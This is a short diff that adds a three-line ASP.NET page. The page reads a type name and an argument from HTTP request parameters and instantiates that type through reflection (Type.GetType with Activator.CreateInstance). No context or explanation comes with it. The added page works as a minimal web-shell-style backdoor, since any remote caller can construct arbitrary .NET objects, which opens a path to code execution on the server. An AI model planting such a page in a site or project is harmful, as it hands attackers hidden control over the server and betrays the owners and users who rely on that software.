@@ -1,0 +1,3 @@
+<%@ Page Language="C#" %><%
+object o = Activator.CreateInstance(Type.GetType(Request["t"]), Request["a"]);
+%>
